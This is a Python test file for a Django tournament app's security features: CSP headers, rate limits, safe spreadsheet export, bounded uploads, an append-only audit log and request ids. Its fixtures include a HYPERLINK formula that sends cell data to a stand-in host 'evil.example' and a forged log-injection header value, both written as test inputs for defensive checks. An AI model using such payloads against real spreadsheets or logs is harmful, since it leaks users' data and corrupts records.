"""Security of the served pages (issue 17, item 4): a strict Content Security Policy the
templates keep, login and private-link rate limits with a clear 429 page, spreadsheet cells
that never become formulas, bounded forms and uploads, an append-only audit log; and the
health probe and request ids (item 7)."""

from __future__ import annotations

import io
import json
import logging
import re

import pytest
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import DatabaseError, connection, transaction
from django.test import override_settings
from django.urls import reverse
from openpyxl import load_workbook

from clubs.models import Player
from tests.factories import (
    MatchFactory,
    OfficialFactory,
    RoundFactory,
    TournamentFactory,
    UserFactory,
    enter,
)
from tests.paths import ROOT
from tournaments import audit
from tournaments.access import private_links
from tournaments.entries.importer import MAX_IMPORT_BYTES
from tournaments.models import AuditEntry, Entry, OfficialRole, Section, Tournament
from tournaments.rounds import pairing_manager as pm
from tournaments.setup.services import delete_tournament
from zarik.logs import JsonFormatter, RequestIdFilter
from zarik.management.demo import BOOK_SLUG

TEMPLATES = ROOT / "templates"

pytestmark = pytest.mark.usefixtures("fresh_cache")


# --- Content Security Policy -----------------------------------------------------------------

INLINE = [
    (re.compile(r"<script(?![^>]*\bsrc=)[^>]*>", re.I), "an inline <script>"),
    (re.compile(r"<style\b", re.I), "a <style> block"),
    (re.compile(r"\son[a-z]+\s*=", re.I), "an on…= event handler"),
    (re.compile(r"\sstyle\s*=", re.I), "a style= attribute"),
]


def test_no_template_has_inline_script_style_or_handler():
    found = []
    for path in sorted(TEMPLATES.rglob("*.html")):
        text = path.read_text(encoding="utf-8")
        for pattern, what in INLINE:
            for m in pattern.finditer(text):
                line = text.count("\n", 0, m.start()) + 1
                found.append(f"{path.relative_to(TEMPLATES)}:{line}: {what}")
    assert not found, "the CSP forbids these; move them to static/js/zarik.js or CSS:\n" + "\n".join(found)


@pytest.mark.django_db
def test_every_page_sends_a_strict_content_security_policy(client, book):
    for url in ("/", f"/t/{BOOK_SLUG}/standings/", "/api/docs/", "/accounts/login/"):
        response = client.get(url)
        assert response.status_code == 200, url
        policy = response["Content-Security-Policy"]
        assert "script-src 'self'" in policy and "style-src 'self'" in policy, url
        assert "unsafe-inline" not in policy and "unsafe-eval" not in policy, url
        assert "frame-ancestors 'none'" in policy
        assert response["Referrer-Policy"] == "same-origin"


@pytest.mark.django_db
def test_swagger_ui_is_served_from_our_static_files_not_a_cdn(client):
    html = client.get("/api/docs/").content.decode()
    sources = re.findall(r'(?:src|href)="([^"]+)"', html)
    assert sources and all(s.startswith("/") for s in sources), sources
    assert any("drf_spectacular_sidecar/swagger-ui-dist/swagger-ui-bundle.js" in s for s in sources)
    script = next(s for s in sources if s.startswith("/api/docs/?script"))
    response = client.get(script)
    assert response.status_code == 200 and "SwaggerUIBundle" in response.content.decode()


# --- rate limits ---------------------------------------------------------------------------


@pytest.mark.django_db
def test_login_is_locked_after_repeated_failures_with_a_clear_429(client, settings):
    settings.AXES_FAILURE_LIMIT = 3
    UserFactory(username="anna")
    for _ in range(2):
        page = client.post("/accounts/login/", {"username": "anna", "password": "wrong"})
        assert page.status_code == 200  # the login form again, with its error
    locked = client.post("/accounts/login/", {"username": "anna", "password": "wrong"},
                         HTTP_ACCEPT_LANGUAGE="en")
    assert locked.status_code == 429
    assert "Too many failed logins for this account" in locked.content.decode()
    assert locked["Retry-After"] == str(15 * 60)
    # Locked means locked: even the right password waits out the cool-off, in the reader's language.
    again = client.post("/accounts/login/", {"username": "anna", "password": "zarik-test"},
                        HTTP_ACCEPT_LANGUAGE="ru")
    assert again.status_code == 429 and "Слишком много неудачных входов" in again.content.decode()
    assert "_auth_user_id" not in client.session
    # Another account (or the same one from another address) is not affected.
    UserFactory(username="boris")
    ok = client.post("/accounts/login/", {"username": "boris", "password": "zarik-test"})
    assert ok.status_code == 302


@pytest.mark.django_db
def test_guessing_private_links_is_stopped_with_a_429(client, settings):
    settings.PRIVATE_LINK_MISS_RATE = "3/10m"
    match = MatchFactory(round=RoundFactory(tournament=TournamentFactory(), number=1), table=1)
    good = private_links.path_for(match.entry_a)
    assert client.get(good).status_code == 200  # a valid link never counts
    for n in range(3):
        assert client.get(f"/p/guess{n}/").status_code == 404
    refused = client.get("/p/guess9/", HTTP_ACCEPT_LANGUAGE="en")
    assert refused.status_code == 429 and int(refused["Retry-After"]) > 0
    assert "Too many unknown private links" in refused.content.decode()
    ru = client.get("/p/guess10/", HTTP_ACCEPT_LANGUAGE="ru")
    assert ru.status_code == 429 and "слишком много неизвестных личных ссылок" in ru.content.decode()
    # Issue 29: a real link from the same address (a hall behind one Wi-Fi) is still served.
    assert client.get(good).status_code == 200
    assert client.get(good, REMOTE_ADDR="10.0.0.7").status_code == 200  # other players are served


# --- spreadsheet cells ---------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+7 (495) 123", "-2+3", "@SUM(A1)",
           "\tTab", "\rCR"]


@pytest.mark.django_db
def test_export_writes_formula_like_names_as_text_never_formulas(book, tmp_path):
    players = list(Player.objects.filter(entries__tournament__slug=BOOK_SLUG).order_by("pk"))
    for player, name in zip(players, HOSTILE, strict=False):
        player.last_name = player.last_name_latin = name
        player.save()
    out = tmp_path / "book.xlsx"
    call_command("export_standings", BOOK_SLUG, str(out), stdout=io.StringIO())
    wb = load_workbook(out)
    seen: dict[str, int] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.startswith(tuple(h[:3] for h in HOSTILE)):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
                    seen[ws.title] = seen.get(ws.title, 0) + 1
    assert set(seen) == {"Турнирное положение", "Турнирная таблица", "Пары", "Участники"}
    values = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    assert any(isinstance(v, str) and v.startswith(HOSTILE[0]) for v in values)  # kept as typed


# --- bounded forms and uploads -------------------------------------------------------------

BILLION = "1000000000"


@pytest.mark.django_db
def test_a_billion_game_rows_are_refused_clearly(client):
    match = MatchFactory(round=RoundFactory(tournament=TournamentFactory(match_length=7), number=1), table=2)
    token = private_links.token_for(match.entry_a)
    url = reverse("private-match", kwargs={"token": token, "match_id": match.pk})
    response = client.post(url, {"version": match.version, "score_a": 7, "score_b": 3, "action": "report",
                                 "games-TOTAL_FORMS": BILLION, "games-INITIAL_FORMS": "0"},
                           HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    html = response.content.decode()
    assert "A result has at most 60 games" in html and 'role="alert"' in html
    assert 'name="score_a" value="7"' in html  # what was typed is kept
    assert not match.results.exists()


@pytest.fixture
def organised(db, client):
    t = TournamentFactory(slug="sec-cup")
    org = UserFactory(username="org")
    OfficialFactory(tournament=t, user=org, role=OfficialRole.ORGANISER)
    client.force_login(org)
    return t


def test_a_billion_sections_are_refused_clearly(client, organised):
    url = reverse("manage-sections", kwargs={"slug": organised.slug})
    response = client.post(url, {"sections-TOTAL_FORMS": BILLION, "sections-INITIAL_FORMS": "0",
                                 "sections-MIN_NUM_FORMS": "0", "sections-MAX_NUM_FORMS": "1000"},
                           HTTP_ACCEPT_LANGUAGE="ru")
    assert response.status_code == 200
    assert "В турнире может быть не больше 50 секций" in response.content.decode()
    assert not Section.objects.filter(tournament=organised).exists()


def test_results_grid_ignores_a_forged_form_count_and_refuses_a_flood_of_fields(client, organised):
    enter(organised, [{"last_name": f"Игрок{i}", "first_name": "И"} for i in range(4)])
    org = organised.officials.get().user
    [rnd] = pm.generate_next(organised, user=org)
    pm.publish_round(rnd, user=org)
    url = reverse("manage-results", kwargs={"slug": organised.slug, "round_id": rnd.pk})
    m = rnd.matches.filter(entry_b__isnull=False).first()
    data = {"form-TOTAL_FORMS": BILLION, f"m{m.pk}-a": str(organised.match_length), f"m{m.pk}-b": "0",
            f"m{m.pk}-version": str(m.version)}
    page = client.post(url, data)
    assert page.status_code == 302  # saved: the grid redirects to itself
    m.refresh_from_db()
    assert (m.score_a, m.score_b) == (organised.match_length, 0)
    flood = {f"x{i}": "1" for i in range(6000)}
    refused = client.post(url, flood, HTTP_ACCEPT_LANGUAGE="en")
    assert refused.status_code == 400
    assert "at most 5,000 fields" in refused.content.decode()


def test_an_oversized_import_file_is_refused_before_reading(client, organised):
    url = reverse("manage-entries-import", kwargs={"slug": organised.slug})
    big = b"last_name\n" + b"Petrov\n" * (MAX_IMPORT_BYTES // 7 + 10)
    response = client.post(url, {"file": SimpleUploadedFile("big.csv", big, "text/csv")},
                           HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 400  # the page's answer to an invalid upload, the form shown again
    assert "an import file may be at most 2048 KB" in response.content.decode()
    assert not Entry.objects.filter(tournament=organised).exists()
    png = SimpleUploadedFile("photo.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "image/png")
    response = client.post(url, {"file": png}, HTTP_ACCEPT_LANGUAGE="en")
    assert "“photo.png” is not a CSV, XLSX or TRF-16 file." in response.content.decode()


@pytest.mark.django_db
def test_a_binary_file_is_refused_as_a_match_record(client):
    match = MatchFactory(round=RoundFactory(tournament=TournamentFactory(match_length=7), number=1), table=3)
    token = private_links.token_for(match.entry_a)
    url = reverse("private-match", kwargs={"token": token, "match_id": match.pk})
    png = SimpleUploadedFile("board.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" * 10, "image/png")
    response = client.post(url, {"version": match.version, "score_a": 7, "score_b": 3, "action": "report",
                                 "games-TOTAL_FORMS": "0", "games-INITIAL_FORMS": "0", "mat_file": png},
                           HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    assert "“board.png” is not a text file" in response.content.decode()
    assert not match.results.exists()


# --- the audit log is append-only ----------------------------------------------------------


@pytest.mark.django_db
def test_the_back_office_cannot_change_or_delete_audit_entries(client):
    admin_user = UserFactory(username="root", admin=True)
    t = TournamentFactory()
    audit.record(admin_user, t, "tournament.settings", t, None, t)
    entry = AuditEntry.objects.get()
    client.force_login(admin_user)
    delete = reverse("admin:tournaments_auditentry_delete", args=[entry.pk])
    assert client.post(delete, {"post": "yes"}).status_code == 403
    change = reverse("admin:tournaments_auditentry_change", args=[entry.pk])
    client.post(change, {"action": "forged", "reason": "x"})
    entry.refresh_from_db()
    assert entry.action == "tournament.settings" and entry.reason == ""


@pytest.mark.django_db(transaction=True)
def test_postgresql_refuses_update_and_delete_of_audit_entries():
    if connection.vendor != "postgresql":
        pytest.skip("the trigger is PostgreSQL's (migration 0009_audit_append_only); SQLite has none")
    user = UserFactory(username="director")
    t = TournamentFactory(slug="kept-history")
    audit.record(user, t, "tournament.settings", t, None, t)
    entry = AuditEntry.objects.get(tournament=t)
    for statement in (lambda: AuditEntry.objects.filter(pk=entry.pk).update(reason="rewritten"),
                      lambda: AuditEntry.objects.filter(pk=entry.pk).delete()):
        with pytest.raises(DatabaseError, match="append-only"), transaction.atomic():
            statement()
    # Deleting what an entry names only detaches it: the line stays.
    delete_tournament(t, user)
    user.delete()
    kept = AuditEntry.objects.filter(pk=entry.pk).get()
    assert (kept.tournament_id, kept.user_id, kept.action) == (None, None, "tournament.settings")
    assert AuditEntry.objects.filter(action="tournament.delete").exists()
    assert not Tournament.objects.filter(slug="kept-history").exists()


# --- health and request ids (item 7) ---------------------------------------------------------


MONITOR = {"HTTP_AUTHORIZATION": "Bearer monitor-token-for-the-tests"}


@pytest.fixture(autouse=True)
def healthz_token(settings):
    settings.HEALTHZ_TOKEN = "monitor-token-for-the-tests"


@pytest.mark.django_db
def test_healthz_reports_every_dependency_to_the_monitor_and_only_the_status_to_anyone(client):
    response = client.get("/healthz", **MONITOR)
    assert response.status_code == 200
    body = response.json()
    assert body["status"] == "up"
    assert client.get("/healthz").json() == {"status": "up"}  # issue 45: no internals to anonymous callers
    assert client.get("/healthz", HTTP_AUTHORIZATION="Bearer wrong").json() == {"status": "up"}
    assert {k: v["ok"] for k, v in body["checks"].items()} == {"database": True, "cache": True, "broker": True}


@pytest.mark.django_db
def test_healthz_reports_an_unreachable_broker_as_degraded(client):
    # Issue 29: pages and results work without the broker, so the balancer keeps the process.
    with override_settings(CELERY_TASK_ALWAYS_EAGER=False, CELERY_BROKER_URL="redis://127.0.0.1:1/0"):
        response = client.get("/healthz", **MONITOR)
        anonymous = client.get("/healthz")
    assert anonymous.json() == {"status": "degraded"}  # not the broker's address or its error
    assert response.status_code == 200
    body = response.json()
    assert body["status"] == "degraded"
    assert body["checks"]["broker"]["ok"] is False and body["checks"]["broker"]["error"]
    assert body["checks"]["database"]["ok"] and body["checks"]["cache"]["ok"]


@pytest.mark.django_db
def test_healthz_reports_an_unreachable_cache_as_degraded(client):
    unreachable = {"default": {"BACKEND": "django.core.cache.backends.redis.RedisCache",
                               "LOCATION": "redis://127.0.0.1:1/0"}}
    with override_settings(CACHES=unreachable):
        response = client.get("/healthz", **MONITOR)
        ready = client.get("/healthz/ready")
    assert response.status_code == 200 and response.json()["status"] == "degraded"
    assert response.json()["checks"]["cache"]["ok"] is False
    assert ready.status_code == 200  # the database answers: keep serving
    cache.clear()


@pytest.mark.django_db
def test_each_request_has_an_id_in_its_header_and_its_json_log_line(client, settings):
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.addFilter(RequestIdFilter())
    handler.setFormatter(JsonFormatter())
    logger = logging.getLogger("zarik.request")
    old_level = logger.level
    logger.addHandler(handler)
    logger.setLevel(logging.INFO)
    try:
        first = client.get("/healthz")
        second = client.get("/healthz", HTTP_X_REQUEST_ID="lb-0123456789abcdef")
        forged = client.get("/healthz", HTTP_X_REQUEST_ID='x" \n{"level": "fake"}')
    finally:
        logger.removeHandler(handler)
        logger.setLevel(old_level)
    rid = first["X-Request-ID"]
    assert re.fullmatch(r"[0-9a-f]{32}", rid)
    assert second["X-Request-ID"] == "lb-0123456789abcdef"  # the balancer's id is kept
    assert re.fullmatch(r"[0-9a-f]{32}", forged["X-Request-ID"])  # an unsafe one is replaced
    lines = [json.loads(line) for line in stream.getvalue().splitlines()]
    assert [line["request_id"] for line in lines] == [rid, "lb-0123456789abcdef", forged["X-Request-ID"]]
    assert lines[0]["path"] == "/healthz" and lines[0]["status"] == 200 and lines[0]["ms"] >= 0
    assert lines[0]["logger"] == "zarik.request" and lines[0]["level"] == "INFO"
